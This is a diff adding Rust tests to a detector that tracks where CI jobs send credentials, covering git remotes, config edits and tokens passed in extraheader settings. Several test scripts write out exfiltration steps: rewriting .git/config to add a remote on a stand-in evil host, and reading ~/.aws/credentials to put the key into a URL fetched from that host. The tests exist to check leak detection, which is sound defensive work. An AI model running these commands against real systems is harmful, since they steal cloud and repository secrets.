@@ -1,7 +1,10 @@
 //! Self-kept destinations: a credential file that stood there before the job says where its secret is spent, and what the job
 //! writes into one says nothing.
 
-use detector::engine::{Finding, Verdict};
+use detector::{
+    engine::{Finding, Verdict},
+    event::Body,
+};
 use detector_tests::{
     name_server::{NameServer, Zone},
     namespace::{OTHER_V4, SINK_V4},
@@ -76,6 +79,86 @@ fn files_of_the_workspace_are_not_believed() -> Result {
     std::fs::write(scene.home.workspace().join(".npmrc"), format!("registry=http://{EVIL}:{PORT}/\n"))?;
     let run = run(&scene, &npm(EVIL))?;
     assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
+    assert!(scene.sink.bytes().is_empty());
+    Ok(())
+}
+
+/// Where the code is.
+const FORGE: &str = "forge.test";
+
+/// A clone as `actions/checkout` makes it: settings by git, its token among them.
+const CHECKED_OUT: &str = "git init -q .; git config http.extraheader \"Authorization: basic $TOKEN\"; ";
+
+fn forge(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
+    let zone = Zone::new().a(FORGE, [SINK_V4]).a(EVIL, [OTHER_V4]);
+    let _server = NameServer::start(&scene.network.sink, zone)?;
+    let job = scene
+        .job(["bash", "-c", script])
+        .policy(BUILTIN)
+        .mode("enforce")
+        .env("TOKEN", scene.home.canary("git").value());
+    Watched::run(scene, &job.resolver(Resolver::default()))
+}
+
+fn remote(host: &str) -> String {
+    format!("git remote add origin http://{host}:{PORT}/x.git; ")
+}
+
+/// What git wrote names where it goes, from the next command on, every time.
+#[test]
+fn what_a_reader_writes_in_the_job_is_believed() -> Result {
+    let scene = Scene::new()?;
+    // libcurl reads this one too, wherever it goes.
+    std::fs::remove_file(scene.home.path().join(".netrc"))?;
+    let each = format!("rm -rf .git; {CHECKED_OUT}{}git ls-remote origin > /dev/null 2>&1; ", remote(FORGE));
+    let run = forge(&scene, &format!("for i in 1 2 3 4 5 6 7 8 9 10; do {each} done; true"))?;
+    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
+    let arrived = String::from_utf8_lossy(&scene.sink.bytes()).matches("GET /x.git/info/refs").count();
+    assert_eq!(arrived, 10);
+    assert!(scene.home.canary("git").is_in(&scene.sink.bytes()));
+    let kept =
+        run.recording.events.iter().filter(|event| matches!(&event.body, Body::Kept(kept) if kept.host == FORGE));
+    assert_eq!(kept.count(), 1, "it is said once");
+    Ok(())
+}
+
+/// Of what somebody else put into git's settings nothing is believed, even if git writes it anew.
+#[test]
+fn what_others_edit_is_not_believed_when_a_reader_rewrites_it() -> Result {
+    let evil = format!("printf '[remote \"evil\"]\\n\\turl = http://{EVIL}:{PORT}/x.git\\n'");
+    for edit in [
+        format!("{evil} >> .git/config; "),
+        format!("{evil} >> .git/config; git config user.name x; "),
+        format!("cp .git/config y; {evil} >> y; mv y .git/config; git config user.name x; "),
+        // Another repository's, whose settings git writes where somebody else has prepared them.
+        format!("{evil} > y; git config --file y user.name x; cat y >> .git/config; "),
+    ] {
+        let scene = Scene::new()?;
+        std::fs::remove_file(scene.home.path().join(".netrc"))?;
+        let script =
+            format!("rm -rf .git; {CHECKED_OUT}{}{edit}git ls-remote evil > /dev/null 2>&1; true", remote(FORGE));
+        let run = forge(&scene, &script)?;
+        assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{edit}: {:#?}", run.conclusion.findings);
+        assert!(scene.sink.bytes().is_empty(), "{edit}");
+    }
+    Ok(())
+}
+
+/// A reader that holds another secret writes nothing that is believed: what it was told to write may be that.
+#[test]
+fn who_holds_something_else_is_not_believed() -> Result {
+    let scene = Scene::new()?;
+    std::fs::remove_file(scene.home.path().join(".netrc"))?;
+    let script = format!(
+        "rm -rf .git; git init -q .; git remote add origin http://{FORGE}:{PORT}/x.git; \
+         key=$(cat ~/.aws/credentials | tail -1); git remote add evil \"http://{EVIL}:{PORT}/${{key##* }}\"; \
+         git config http.extraheader \"Authorization: basic $TOKEN\"; git ls-remote evil > /dev/null 2>&1; true"
+    );
+    let run = forge(&scene, &script)?;
+    assert!(!leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
+    let named =
+        |host: &str| run.recording.events.iter().any(|e| matches!(&e.body, Body::Kept(kept) if kept.host == host));
+    assert!(!named(EVIL));
     assert!(scene.sink.bytes().is_empty());
     Ok(())
 }
